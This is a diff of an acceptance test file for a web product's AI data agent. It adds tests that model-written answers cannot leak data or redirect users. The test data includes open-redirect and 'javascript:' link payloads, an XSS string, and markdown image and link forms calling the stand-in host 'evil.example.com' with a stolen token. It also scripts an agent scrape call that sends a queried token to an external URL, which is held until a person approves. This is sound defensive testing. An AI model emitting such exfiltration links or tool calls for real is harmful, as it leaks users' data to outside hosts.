@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import { type Crawler, startCrawler } from '../../services/acceptance/crawler.ts'
 import { startProduct, type Product } from '../../services/acceptance/product.ts'
 import { startSeeded } from '../../services/acceptance/seeded.ts'
 import {
@@ -19,6 +20,8 @@ let sandbox: Sandbox
 let gateway: ScriptedGateway
 let product: Product
 let browser: TestBrowser
+let crawler: Crawler
+const scrape = 'mcp_web_crawl__firecrawl_scrape'
 const scope = new AsyncDisposableStack()
 const say = (text: string) => ({ say: [{ text }] })
 const call = (name: string, input: Record<string, unknown>) => ({ say: [{ call: name, with: input }] })
@@ -26,7 +29,8 @@ const call = (name: string, input: Record<string, unknown>) => ({ say: [{ call: 
 beforeAll(async () => {
   sandbox = scope.use(await startSeeded('one'))
   gateway = scope.use(await startScriptedGateway({ script: [say('yes')] }))
-  const env = { ...gatewayVariables(gateway), RATE_LIMIT_AGENT_PER_MIN: '100000' }
+  crawler = scope.use(await startCrawler('A page.'))
+  const env = { ...gatewayVariables(gateway), RATE_LIMIT_AGENT_PER_MIN: '100000', ...crawler.variables }
   product = scope.use(await startProduct({ hosts: [{ url: sandbox.url, name: 'one' }], env }))
   browser = scope.use(await openBrowser())
 })
@@ -39,8 +43,8 @@ const open = async (options = {}): Promise<Visit> => {
   await visit.settled()
   return visit
 }
-const question = ({ page }: Visit) => page.getByRole('textbox', { name: 'Your question' })
-const answer = ({ page }: Visit) => page.getByRole('article', { name: 'Answer' }).last()
+const question = ({ page }: Visit) => page.getByRole('textbox', { name: 'Your question', exact: true })
+const answer = ({ page }: Visit) => page.getByRole('article', { name: 'Answer', exact: true }).last()
 const answered = ({ page }: Visit) => expectSeen(page.getByRole('status').filter({ hasText: 'Answered.' }))
 const ask = async (visit: Visit, text: string, script: Script) => {
   gateway.play(script)
@@ -60,19 +64,19 @@ describe('a question', () => {
     const visit = await open()
     await ask(visit, 'How many orders?', cited)
     await answered(visit)
-    await expectSeen(answer(visit).getByRole('heading', { name: 'What there is' }))
-    expect(await answer(visit).getByRole('listitem').allInnerTexts()).toEqual(['one', 'two'])
+    await expectSeen(answer(visit).getByRole('heading', { name: 'What there is', exact: true }))
+    await expect.poll(() => answer(visit).getByRole('listitem').allInnerTexts()).toEqual(['one', 'two'])
     // What a model writes as HTML is words.
     await expectSeen(answer(visit).getByText('<img src=x onerror=alert(1)>'))
     await expectSeen(answer(visit).getByText(/tokens$/))
     await answer(visit).locator('summary').filter({ hasText: 'query' }).first().click()
-    const rows = answer(visit).getByRole('table', { name: 'Rows of query' })
+    const rows = answer(visit).getByRole('table', { name: 'Rows of query', exact: true })
     await expectSeen(rows)
-    expect(await rows.getByRole('cell').allInnerTexts()).toEqual(['shop', '42'])
-    await answer(visit).getByRole('button', { name: 'Evidence e1' }).first().click()
-    const evidence = visit.page.getByRole('dialog', { name: 'Evidence e1' })
+    await expect.poll(() => rows.getByRole('cell').allInnerTexts()).toEqual(['shop', '42'])
+    await answer(visit).getByRole('button', { name: 'Evidence e1', exact: true }).first().click()
+    const evidence = visit.page.getByRole('dialog', { name: 'Evidence e1', exact: true })
     await expectSeen(evidence.getByText('1 row', { exact: true }))
-    const link = await evidence.getByRole('link', { name: 'Open in console' }).getAttribute('href')
+    const link = await evidence.getByRole('link', { name: 'Open in console', exact: true }).getAttribute('href')
     expect(new URLSearchParams(link?.split('?')[1]).get('sql')).toBe(sql)
     expect(visit.complaints).toEqual([])
   })
@@ -84,11 +88,52 @@ describe('a question', () => {
     await visit.page.waitForURL(/chat=/)
     await visit.page.reload()
     await expectSeen(answer(visit).getByText('All is well.'))
-    const list = visit.page.getByRole('navigation', { name: 'Conversations' })
+    const list = visit.page.getByRole('navigation', { name: 'Conversations', exact: true })
     await expectSeen(list.getByRole('link', { name: /Is it well/ }))
-    await list.getByRole('button', { name: 'Remove Is it well?' }).click()
+    await list.getByRole('button', { name: 'Remove Is it well?', exact: true }).click()
     await until(async () => (await list.getByRole('link', { name: /Is it well/ }).count()) === 0)
     await until(async () => (await visit.page.getByRole('article').count()) === 0)
+  })
+
+  it('keeps the links of its answer on this site, or shows the whole address of another', async () => {
+    const visit = await open()
+    const backslash = '\\'
+    const targets = {
+      own: '/tables/parts?sort=rows.desc',
+      one: `/${backslash}evil.example`,
+      two: `${backslash}${backslash}${backslash}${backslash}evil.example`,
+      three: '//evil.example',
+      four: '/.//evil.example',
+      five: `/.${backslash}${backslash}${backslash}evil.example`,
+      six: 'javascript:alert(1)',
+    }
+    const links = Object.entries(targets).map(([name, target]) => `[${name}](${target})`)
+    await ask(visit, 'Where to?', [say(links.join(' '))])
+    await answered(visit)
+    await expectSeen(answer(visit).getByRole('link', { name: 'own', exact: true }))
+    const found = await answer(visit)
+      .getByRole('paragraph')
+      .getByRole('link')
+      .evaluateAll((all) =>
+        all.map((link) => ({
+          // What the browser opens, whatever the attribute looks like.
+          origin: (link as HTMLAnchorElement).origin,
+          address: (link as HTMLAnchorElement).href,
+          text: link.textContent,
+          target: link.getAttribute('target'),
+        })),
+      )
+    const [own, ...others] = found
+    expect(own).toMatchObject({ origin: product.url, text: 'own', target: null })
+    for (const link of others) expect(link).toMatchObject({ text: link.address, target: '_blank' })
+    expect(others.map(({ origin }) => origin)).toEqual([
+      'http://evil.example',
+      'http://evil.example',
+      'http://evil.example',
+    ])
+    await answer(visit).getByRole('link', { name: 'own', exact: true }).click()
+    await visit.page.waitForURL(/tables\/parts/)
+    expect(new URL(visit.page.url()).origin).toBe(product.url)
   })
 
   it('can be put in other words, and asked again', async () => {
@@ -96,15 +141,15 @@ describe('a question', () => {
     await ask(visit, 'First?', [say('The first answer.')])
     await answered(visit)
     gateway.play([say('The second answer.')])
-    await answer(visit).getByRole('button', { name: 'Ask again' }).click()
+    await answer(visit).getByRole('button', { name: 'Ask again', exact: true }).click()
     await expectSeen(answer(visit).getByText('The second answer.'))
     await answered(visit)
     gateway.play([say('The third answer.')])
-    await visit.page.getByRole('button', { name: 'Edit the question' }).click()
-    await visit.page.getByRole('textbox', { name: 'Question, edited' }).fill('Other?')
-    await visit.page.getByRole('button', { name: 'Ask this instead' }).click()
+    await visit.page.getByRole('button', { name: 'Edit the question', exact: true }).click()
+    await visit.page.getByRole('textbox', { name: 'Question, edited', exact: true }).fill('Other?')
+    await visit.page.getByRole('button', { name: 'Ask this instead', exact: true }).click()
     await expectSeen(answer(visit).getByText('The third answer.'))
-    expect(await visit.page.getByRole('article').count()).toBe(2)
+    await expect.poll(() => visit.page.getByRole('article').count()).toBe(2)
   })
 })
 
@@ -126,10 +171,10 @@ describe('an answer', () => {
     const visit = await open()
     const asking = { question: 'Which table?', kind: 'single_choice', options: ['orders', 'events'] }
     await ask(visit, 'Look at it', [call('ask_user', asking)])
-    const form = visit.page.getByRole('form', { name: 'Which table?' })
-    await expectSeen(form.getByRole('button', { name: 'events' }))
+    const form = visit.page.getByRole('form', { name: 'Which table?', exact: true })
+    await expectSeen(form.getByRole('button', { name: 'events', exact: true }))
     gateway.play(() => say('So events it is.'))
-    await form.getByRole('button', { name: 'events' }).click()
+    await form.getByRole('button', { name: 'events', exact: true }).click()
     await expectSeen(answer(visit).getByText('So events it is.'))
     await expectSeen(form.getByText('You answered: events'))
     expect(gateway.violations).toEqual([])
@@ -139,18 +184,54 @@ describe('an answer', () => {
     const visit = await open()
     await answerOf(sandbox.url, 'CREATE TABLE IF NOT EXISTS shop.of_agent (a UInt8) ENGINE = MergeTree ORDER BY a')
     await ask(visit, 'Merge it', [call('optimize_table', { database: 'shop', table: 'of_agent' }), say('That was it.')])
-    const wish = visit.page.getByRole('region', { name: 'Approval' })
+    const wish = visit.page.getByRole('region', { name: 'Approval', exact: true })
     await expectSeen(wish.getByText('of_agent'))
-    await wish.getByRole('button', { name: 'Approve and do it' }).click()
+    await wish.getByRole('button', { name: 'Approve and do it', exact: true }).click()
     await expectSeen(wish.getByText('Approved and carried out.'))
     await answered(visit)
+  })
+
+  it('sends what it read to an external server only once a person approves it', async () => {
+    const visit = await open()
+    const url = 'https://docs.example.com/?d=Tango-9134-victor'
+    const leaking = [call('query', { sql: "SELECT 'Tango-9134-victor' AS token" }), call(scrape, { url }), say('Done.')]
+    await ask(visit, 'What is new?', leaking)
+    const request = visit.page.getByRole('region', { name: 'Approval to send data', exact: true })
+    await expectSeen(request.getByText(url))
+    await expect.poll(() => request.locator('mark').allInnerTexts()).toEqual(['Tango-9134-victor'])
+    await request.getByRole('button', { name: 'Deny', exact: true }).click()
+    await expectSeen(request.getByText('Denied; nothing was sent.'))
+    await answered(visit)
+    expect(crawler.sent).toEqual([])
+    await ask(visit, 'And now?', leaking)
+    await request.last().getByRole('button', { name: 'Approve and send', exact: true }).click()
+    await expectSeen(request.last().getByText('Approved and sent.'))
+    await answered(visit)
+    expect(crawler.sent).toEqual([{ url }])
+  })
+
+  it('loads nothing from another site, and shows the whole address that a link leads to', async () => {
+    const visit = await open()
+    const requested: string[] = []
+    visit.page.on('request', (request) => requested.push(request.url()))
+    const address = 'https://evil.example.com/?d=Tango-9134-victor'
+    const forms = [`![status](${address})`, `![][1]`, `<img src="${address}">`, `[the fix](${address})`, `<${address}>`]
+    await ask(visit, 'Any pictures?', [say(`${forms.join('\n\n')}\n\n[1]: ${address}`)])
+    await answered(visit)
+    const links = answer(visit).getByRole('link')
+    // The code that reads markup comes when it is first needed; until then the text stands there as it is written.
+    await expect.poll(() => links.allInnerTexts()).toEqual([address, address])
+    expect(await answer(visit).locator('img, iframe, object, video, link, style').count()).toBe(0)
+    await links.first().hover()
+    expect(requested.filter((each) => !each.startsWith(product.url))).toEqual([])
+    expect(visit.complaints).toEqual([])
   })
 
   it('that fails says why', async () => {
     const visit = await open()
     await ask(visit, 'Anything?', [{ status: 401 }])
     await expectSeen(answer(visit).getByRole('alert').getByText('provider-key-refused'))
-    await expectSeen(answer(visit).getByRole('button', { name: 'Ask again' }))
+    await expectSeen(answer(visit).getByRole('button', { name: 'Ask again', exact: true }))
   })
 })
 
@@ -166,8 +247,8 @@ describe('the page of the agent', () => {
       say('It stands in the chart [e1].'),
     ])
     await answered(visit)
-    await expectSeen(visit.page.getByRole('region', { name: 'Plan' }).getByText('Step 1'))
-    await expectSeen(visit.page.getByRole('region', { name: 'Two tables' }))
+    await expectSeen(visit.page.getByRole('region', { name: 'Plan', exact: true }).getByText('Step 1'))
+    await expectSeen(visit.page.getByRole('region', { name: 'Two tables', exact: true }))
     await answer(visit).locator('summary').first().click()
     await visit.settled()
     expect(await findings(visit)).toEqual([])
@@ -185,7 +266,7 @@ describe('the page of the agent', () => {
 })
 
 describe('the agent beside a page', () => {
-  const beside = ({ page }: Visit) => page.getByRole('complementary', { name: 'Agent' })
+  const beside = ({ page }: Visit) => page.getByRole('complementary', { name: 'Agent', exact: true })
   const openBeside = async (path: string, options = {}): Promise<Visit> => {
     const visit = await browser.visit(options)
     await visit.page.goto(`${product.url}${path}`)
@@ -200,9 +281,9 @@ describe('the agent beside a page', () => {
   it('is told what the page is about, but for what was taken out', async () => {
     const visit = await openBeside(place)
     await until(() => question(visit).evaluate((field) => field === document.activeElement))
-    const told = beside(visit).getByRole('list', { name: 'What the agent is told of this page' })
+    const told = beside(visit).getByRole('list', { name: 'What the agent is told of this page', exact: true })
     await expectSeen(told.getByText('Last 6 hours'))
-    await told.getByRole('button', { name: 'Leave out: Page Explorer' }).click()
+    await told.getByRole('button', { name: 'Leave out: Page Explorer', exact: true }).click()
     let context = ''
     await ask(visit, 'What is in it?', (request) => {
       context = JSON.stringify(request)
@@ -212,7 +293,7 @@ describe('the agent beside a page', () => {
     expect(context).toContain('shop.orders')
     expect(context).toContain('Last 6 hours')
     expect(context).not.toContain('looks at the page')
-    await told.getByRole('button', { name: 'Tell all again' }).click()
+    await told.getByRole('button', { name: 'Tell all again', exact: true }).click()
     await expectSeen(told.getByText('Page Explorer'))
     expect(visit.complaints).toEqual([])
   })
@@ -222,20 +303,20 @@ describe('the agent beside a page', () => {
     await ask(visit, 'Is it well?', [say('All is well.')])
     await answered(visit)
     await visit.page.getByRole('link', { name: 'Fleet', exact: true }).click()
-    await expectSeen(visit.page.getByRole('heading', { level: 1, name: 'Fleet' }))
+    await expectSeen(visit.page.getByRole('heading', { level: 1, name: 'Fleet', exact: true }))
     await expectSeen(answer(visit).getByText('All is well.'))
     await expectSeen(beside(visit).getByText('Page Fleet'))
     await question(visit).press('Escape')
     await until(async () => (await beside(visit).count()) === 0)
-    const opener = visit.page.getByRole('button', { name: 'Ask the agent about this page' })
+    const opener = visit.page.getByRole('button', { name: 'Ask the agent about this page', exact: true })
     await until(() => opener.evaluate((button) => button === document.activeElement))
     await opener.press('Enter')
     await expectSeen(answer(visit).getByText('All is well.'))
-    await beside(visit).getByRole('link', { name: 'As a page of its own' }).click()
+    await beside(visit).getByRole('link', { name: 'As a page of its own', exact: true }).click()
     await visit.page.waitForURL(/agents.*chat=/)
     await expectSeen(answer(visit).getByText('All is well.'))
-    expect(await beside(visit).count()).toBe(0)
-    expect(await opener.isDisabled()).toBe(true)
+    await until(async () => (await beside(visit).count()) === 0)
+    await until(() => opener.isDisabled())
   })
 
   it('is whole on a telephone, without findings in either theme', async () => {
